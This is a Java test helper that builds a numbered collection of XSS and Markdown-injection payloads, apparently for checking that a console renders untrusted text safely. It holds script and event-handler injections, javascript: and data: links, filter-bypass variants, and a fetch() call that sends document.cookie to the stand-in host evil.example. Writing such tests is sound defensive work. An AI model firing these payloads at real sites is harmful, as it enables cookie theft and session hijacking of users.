package dev.kotae.e2e.console;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Texts that would run a script, or send something to another host, in a page that draws texts as HTML or follows what Markdown
 * links to. Each calls {@code pwned()}, {@code alert()} or the host {@code evil.example}.
 */
final class Payloads {

    private static final String CALL = "alert(1);window.pwned=1;fetch('http://evil.example/?c='+document.cookie)";

    private static final List<String> HTML = List.of(
            "<script>" + CALL + "</script>",
            "<script src=http://evil.example/x.js></script>",
            "<img src=x onerror=\"" + CALL + "\">",
            "<img src=http://evil.example/p.png?q=secret>",
            "<img srcset=\"http://evil.example/s.png 1x\">",
            "<svg onload=\"" + CALL + "\">",
            "<svg><script>" + CALL + "</script></svg>",
            "<svg><image href=http://evil.example/i.png /></svg>",
            "<svg><use href=\"http://evil.example/u.svg#x\"/></svg>",
            "<svg><animate onbegin=\"" + CALL + "\" attributeName=x dur=1s></svg>",
            "<svg><foreignObject><iframe src=\"javascript:" + CALL + "\"></iframe></foreignObject></svg>",
            "<iframe src=http://evil.example/f></iframe>",
            "<iframe srcdoc=\"<script>parent.pwned=1;parent.alert(1)</script>\"></iframe>",
            "<iframe src=\"javascript:" + CALL + "\"></iframe>",
            "<object data=http://evil.example/o></object>",
            "<embed src=http://evil.example/e>",
            "<link rel=stylesheet href=http://evil.example/l.css>",
            "<link rel=preload as=image href=http://evil.example/pre.png>",
            "<link rel=dns-prefetch href=//evil.example>",
            "<style>@import 'http://evil.example/s.css';*{background:url(http://evil.example/b.png)}</style>",
            "<div style=\"background:url(http://evil.example/d.png)\">x</div>",
            "<base href=http://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=http://evil.example/m\">",
            "<form action=http://evil.example/form><input autofocus onfocus=\"" + CALL + "\"><button>x</button></form>",
            "<input autofocus onfocus=\"" + CALL + "\">",
            "<details open ontoggle=\"" + CALL + "\">x</details>",
            "<video src=http://evil.example/v.mp4 onerror=\"" + CALL + "\" autoplay></video>",
            "<video poster=http://evil.example/poster.png></video>",
            "<audio src=x onerror=\"" + CALL + "\"></audio>",
            "<body onload=\"" + CALL + "\">",
            "<marquee onstart=\"" + CALL + "\">x</marquee>",
            "<a href=\"javascript:" + CALL + "\">click</a>",
            "<a href=http://evil.example ping=http://evil.example/ping>click</a>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=" + CALL
                    + "&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=" + CALL + ">\"></noscript>",
            "<template><img src=x onerror=\"" + CALL + "\"></template>",
            "<table background=http://evil.example/t.png><tr><td>x</table>",
            "<xmp><img src=x onerror=\"" + CALL + "\"></xmp>",
            "<kotae-interval label=\"<img src=x onerror=" + CALL + ">\"></kotae-interval>",
            "<button popovertarget=x onclick=\"" + CALL + "\">x</button><div popover id=x onbeforetoggle=\"" + CALL
                    + "\">y</div>");

    private static final List<String> MARKDOWN = List.of(
            "![x](http://evil.example/a.png?q=secret)",
            "![x][r]\n\n[r]: http://evil.example/ref.png",
            "[x][r2]\n\n[r2]: javascript:" + "alert(1)",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](vbscript:msgbox(1))",
            "<http://evil.example/auto>",
            "<javascript:alert(1)>",
            "http://evil.example/bare",
            "www.evil.example",
            "[x](//evil.example)",
            "[x](http://evil.example \"onmouseover=alert(1)\")",
            "[![x](http://evil.example/in.png)](http://evil.example)",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "&lt;img src=x onerror=alert(1)&gt;",
            "&#60;img src=x onerror=alert(1)&#62;",
            "\\<img src=x onerror=alert(1)\\>",
            "`<img src=x onerror=alert(1)>`",
            "```html\n<img src=x onerror=alert(1)>\n```",
            "```\"><img src=x onerror=alert(1)>\nx\n```",
            "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| ![x](http://evil.example/t.png) | d |",
            "> <img src=x onerror=alert(1)>",
            "- <svg onload=alert(1)>",
            "# <img src=x onerror=alert(1)>",
            "1. [x](javascript:alert(1))",
            "[1]: http://evil.example/marker",
            "[1](http://evil.example/marker)",
            "[1](javascript:alert(1))",
            "![1](http://evil.example/marker.png)");

    private Payloads() {}

    /** At least two hundred different ones. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        for (String html : HTML) {
            all.add(html);
            all.add("\"'>" + html);
            all.add("x [1]" + html + "[2]");
            all.add(html.replace("<img", "<ImG")
                    .replace("<script", "<ScRiPt")
                    .replace("<svg", "<sVg/")
                    .replace(" on", " oN"));
        }
        for (String markdown : MARKDOWN) {
            all.add(markdown);
            all.add("**" + markdown + "** [1]");
        }
        List<String> numbered = new ArrayList<>();
        for (String payload : all) {
            int number = numbered.size();
            // No two alike, so that no answer looks like a loop
            numbered.add(payload.replace("alert(1)", "alert(" + number + ")")
                    .replace("?c=", "?c" + number + "=")
                    .replace("document.cookie", "document.cookie+" + number)
                    .replace("pwned=1", "pwned=1" + number)
                    .replace("evil.example/", "evil.example/" + number));
        }
        return numbered;
    }

    /** Without line breaks and other control characters, for fields of one line. */
    static String inOneLine(String payload) {
        return payload.replaceAll("\\p{Cntrl}+", " ");
    }
}
